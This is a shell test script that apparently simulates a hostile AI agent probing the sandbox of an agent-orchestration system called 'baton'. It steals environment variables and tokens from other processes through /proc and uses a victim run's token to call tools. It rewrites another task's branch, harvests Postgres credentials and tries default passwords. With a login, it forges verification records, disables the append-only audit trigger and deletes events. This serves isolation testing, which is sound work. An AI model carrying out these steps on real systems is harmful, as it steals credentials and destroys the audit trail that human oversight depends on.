# A hostile command agent (S4): it tries to reach what isolation must keep from it and reports
# each attempt on one line, `ATTACK <name> <succeeded|blocked> [evidence]`. The harness prepends:
# WORKER_PID, VICTIM_DIR, VICTIM_PID, VICTIM_BRANCH, BATON_HOME_DIR, WORK_DIR, REPO, OUTSIDE_DIR,
# TCP_PORT, OUTSIDE_HOST, OUTSIDE_PORT, BATON_SRC, and for the store attacks (only when STORE_DB is set) STORE_HOST, STORE_PORT,
# STORE_DB, STORE_TASK, STORE_CLAIM, STORE_REVISION, STORE_OBJECT, STORE_ACTOR: where the database
# is, which task to forge and which other agent's object to act on, never a credential. POSIX sh (dash), no tools beyond coreutils, git, node and psql.
report() { echo "ATTACK $1 $2 ${3:-}"; }
environ() { tr '\0' '\n' < "/proc/$1/environ" 2>/dev/null; }
echo "UID $(id -u)"

# The worker's own environment (its credentials) through /proc.
v=$(environ "$WORKER_PID" | sed -n 's/^BATON_TEST_CANARY=//p')
if [ -n "$v" ]; then report worker_environ succeeded "$v"; else report worker_environ blocked; fi

# Any other process's environment: the worker's canary, or an agent API token that is not this run's.
v=$(for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null; done |
  grep -E '^(BATON_TEST_CANARY|BATON_TOKEN)=' | grep -vxF "BATON_TOKEN=$BATON_TOKEN" | cut -d= -f1 | sort -u | tr '\n' ,)
if [ -n "$v" ]; then report any_environ succeeded "$v"; else report any_environ blocked; fi

# The baton home: a secret file only the worker's user may read, and the folder's listing.
if v=$(cat "$BATON_HOME_DIR/canary-secret" 2>/dev/null); then report baton_home_file succeeded "$v"; else report baton_home_file blocked; fi
v=$(ls "$BATON_HOME_DIR" 2>/dev/null | tr '\n' ,)
if [ -n "$v" ]; then report baton_home_list succeeded "$v"; else report baton_home_list blocked; fi
v=$(ls "$WORK_DIR/logs" 2>/dev/null | tr '\n' ,)
if [ -n "$v" ]; then report work_dir_list succeeded "$v"; else report work_dir_list blocked; fi

# Another run, working at the same time: its uncommitted work, its token, its agent API endpoint
# (BATON_URL, and BATON_SOCKET when it listens on a socket), used with `baton tool call`.
if v=$(cat "$VICTIM_DIR/victim-secret.txt" 2>/dev/null); then report victim_worktree succeeded "$v"; else report victim_worktree blocked; fi
token=$(environ "$VICTIM_PID" | sed -n 's/^BATON_TOKEN=//p')
if [ -n "$token" ]; then report victim_token succeeded "$(printf %s "$token" | sha256sum | cut -c1-64)"; else report victim_token blocked; fi
if [ -n "$token" ] && BATON_TOKEN="$token" BATON_URL="$(environ "$VICTIM_PID" | sed -n 's/^BATON_URL=//p')" \
  BATON_SOCKET="$(environ "$VICTIM_PID" | sed -n 's/^BATON_SOCKET=//p')" baton tool call payments stolen-step >/dev/null 2>&1; then
  report victim_tool_call succeeded
else
  report victim_tool_call blocked
fi

# Writing outside its own checkout.
v=''
for target in "$BATON_HOME_DIR" "$WORK_DIR" "$VICTIM_DIR" "$OUTSIDE_DIR" "$REPO/.git"; do
  if (echo pwned > "$target/hostile-was-here") 2>/dev/null; then v="$v$target,"; fi
done
if [ -n "$v" ]; then report write_outside succeeded "$v"; else report write_outside blocked; fi

# Rewriting another task's branch in the shared repository, directly or by pushing to it.
head=$(git rev-parse HEAD)
if git -C "$REPO" update-ref "refs/heads/$VICTIM_BRANCH" "$head" 2>/dev/null ||
  git push --quiet --force "$REPO" "HEAD:refs/heads/$VICTIM_BRANCH" 2>/dev/null; then
  report rewrite_branch succeeded
else
  report rewrite_branch blocked
fi

# Signalling the worker (kill -0 only asks whether it could).
if kill -0 "$WORKER_PID" 2>/dev/null; then report signal_worker succeeded; else report signal_worker blocked; fi

# A TCP service on the worker's 127.0.0.1 (say, Postgres or the Temporal dev server), other than
# the run's agent API endpoint: directly, and through 10.0.2.2, slirp4netns's name for the host's loopback.
# A dropped connection attempt is blocked only after 15 s: on a loaded machine, a slow connect must not pass for a refused one.
tcp() { node -e 'const s = require("net").connect(Number(process.argv[1]), process.argv[2]); s.on("connect", () => process.exit(0)); s.on("error", () => process.exit(1)); setTimeout(() => process.exit(1), 15000);' "$2" "$1" 2>/dev/null; }
v=''
for h in 127.0.0.1 10.0.2.2; do if tcp "$h" "$TCP_PORT"; then v="$v$h,"; fi; done
if [ -n "$v" ]; then report tcp_localhost succeeded "$v"; else report tcp_localhost blocked; fi
# What agents need from the network: a service elsewhere (here, one on the host's own outside address).
if tcp "$OUTSIDE_HOST" "$OUTSIDE_PORT"; then report tcp_outside succeeded "$OUTSIDE_HOST"; else report tcp_outside blocked; fi

# The store (Postgres): every credential it can find, from anywhere; with one that logs in, it
# forges a verification, switches off the event log's append-only trigger and writes tables.
if [ -n "${STORE_DB:-}" ]; then
  found="${TMPDIR:-/tmp}/hostile-found.$$"
  : > "$found"
  # Each line: <where><TAB><text>; where = env, /proc/<pid>/environ, /proc/<pid>/cmdline or a file.
  collect() { sed "s|^|$1	|" >> "$found"; }
  env | collect env
  # The worker's environ first, then every other process's environ and command line.
  for f in "/proc/$WORKER_PID/environ" /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null | collect "$f"; done
  for f in /proc/[0-9]*/cmdline; do { tr '\0' ' ' < "$f" && echo; } 2>/dev/null | collect "$f"; done
  # Files: the baton home (credentials/*), the repository, baton's own tree and its .baton folder.
  find "$BATON_HOME_DIR" "$REPO" "$BATON_SRC/.baton" "$BATON_SRC/src" "$BATON_SRC/docs" "$BATON_SRC/.ci" \
    "$BATON_SRC/README.md" "$BATON_SRC/docker-compose.yml" \
    \( -name .git -o -name node_modules -o -name postgres -o -name tools \) -prune -o \
    -type f -size -64k -print 2>/dev/null | while IFS= read -r f; do cat "$f" 2>/dev/null | collect "$f"; done
  # Candidates, one a line: host, user, password, where it was found (the first place wins).
  candidates=$(node -e '
    const fs = require("fs");
    const [file, host] = process.argv.slice(1);
    const out = new Map();
    const users = new Set(["postgres", "baton", "baton_ci", "baton_worker", "baton_dev_worker", "baton_dev_client"]);
    const add = (h, user, password, where) => { const k = [h, user, password].join("\t"); if (!out.has(k)) out.set(k, where); };
    const bare = [];
    const dec = (s) => { try { return decodeURIComponent(s); } catch { return s; } };
    for (const line of fs.readFileSync(file, "utf8").split("\n")) {
      const tab = line.indexOf("\t");
      if (tab < 0) continue;
      const where = line.slice(0, tab), text = line.slice(tab + 1);
      for (const m of text.matchAll(/postgres(?:ql)?:\/\/([^:\/@\s"\x27]+):([^@\s"\x27]*)@/g)) { users.add(dec(m[1])); add(host, dec(m[1]), dec(m[2]), where); }
      const pg = /^PG(PASSWORD|USER)=(.*)$/.exec(text);
      if (pg && pg[1] === "USER") users.add(pg[2]);
      if (pg && pg[1] === "PASSWORD") bare.push([pg[2], where]);
      // A secret file (credentials/*, ci/*): its one word is a password.
      if (/\/(credentials|ci)\//.test(where) && !where.startsWith("/proc/") && /^\S+$/.test(text.trim())) bare.push([text.trim(), where]);
    }
    // The literal passwords baton 0.1 and its CI had, and no password at all (trust, peer).
    for (const p of ["baton", "baton_ci", "postgres", "password"]) bare.push([p, "old literal"]);
    for (const [p, where] of bare) for (const u of users) add(host, u, p, where);
    for (const u of users) { add(host, u, "", "no password"); add("/var/run/postgresql", u, "", "no password, local socket"); }
    for (const [k, where] of out) console.log(`${k}\t${where}`);
  ' "$found" "$STORE_HOST")
  rm -f "$found"
  # psql as one login against the test's database (always that one: the name is never taken from a found URL).
  # A generous connect timeout: on a loaded machine a slow login must not pass for a refused one.
  sql() {
    PGHOST="$1" PGPORT="$STORE_PORT" PGDATABASE="$STORE_DB" PGUSER="$2" PGPASSWORD="$3" PGCONNECT_TIMEOUT=15 \
      psql -w -X -q -At -v ON_ERROR_STOP=1 -c "$4" 2>&1 | tr '\n' ' ' | cut -c1-300
  }
  tab=$(printf '\t')
  login=''
  tried=0
  while IFS="$tab" read -r h u p where; do
    [ -n "$u" ] || continue
    tried=$((tried + 1))
    if [ "$(sql "$h" "$u" "$p" 'SELECT 4242')" = '4242 ' ]; then login="$h$tab$u$tab$p$tab$where"; break; fi
  done <<CANDIDATES
$candidates
CANDIDATES
  if [ -z "$login" ]; then
    report store_login blocked "$tried candidates, none logged in"
    for a in store_forge_verification store_act_as_other store_disable_trigger store_update_task store_delete_events; do report "$a" blocked 'no login'; done
  else
    IFS="$tab" read -r h u p where <<LOGIN
$login
LOGIN
    report store_login succeeded "$u from $where"
    o1=$(sql "$h" "$u" "$p" "SELECT claim_version FROM baton.verification_start('$STORE_TASK', 'forger')")
    o2=$(sql "$h" "$u" "$p" "SELECT status FROM baton.verification_record('$STORE_TASK', 'forger', $STORE_CLAIM, '$STORE_REVISION', 'true', 0, 'x', '')")
    if [ "$o2" = 'verified ' ]; then r=succeeded; else r=blocked; fi
    report store_forge_verification "$r" "start: $o1; record: $o2"
    # Acting as another agent: naming the object's holder to give itself write access.
    o=$(sql "$h" "$u" "$p" "SELECT 'ok=' || (baton.object_grant('$STORE_OBJECT', '$STORE_ACTOR', 'hostile', 'write')).ok")
    if [ "$o" = 'ok=true ' ]; then r=succeeded; else r=blocked; fi
    report store_act_as_other "$r" "$o"
    # Each ends with a query, so that what it did is the evidence (the trigger's state, rows touched).
    for a in "store_disable_trigger|ALTER TABLE baton.events DISABLE TRIGGER events_append_only; SELECT 'tgenabled=' || tgenabled::text FROM pg_trigger WHERE tgname = 'events_append_only'" \
      "store_update_task|UPDATE baton.tasks SET status = 'verified' WHERE id = '$STORE_TASK' RETURNING 'updated ' || id" \
      "store_delete_events|WITH d AS (DELETE FROM baton.events RETURNING 1) SELECT 'deleted ' || count(*) FROM d"; do
      o=$(sql "$h" "$u" "$p" "${a#*|}")
      case "$o" in *ERROR*|*error:*|*FATAL*) r=blocked ;; *) r=succeeded ;; esac
      report "${a%%|*}" "$r" "$o"
    done
  fi
fi

# What it is allowed to do: call a tool for its own task, and commit its work.
if baton tool call payments own-step > own-call.json 2>/dev/null; then report own_tool_call succeeded; else report own_tool_call blocked; fi
echo done > hostile.txt
git add hostile.txt own-call.json && git -c user.name=hostile -c user.email=hostile@localhost commit -q -m 'hostile work'
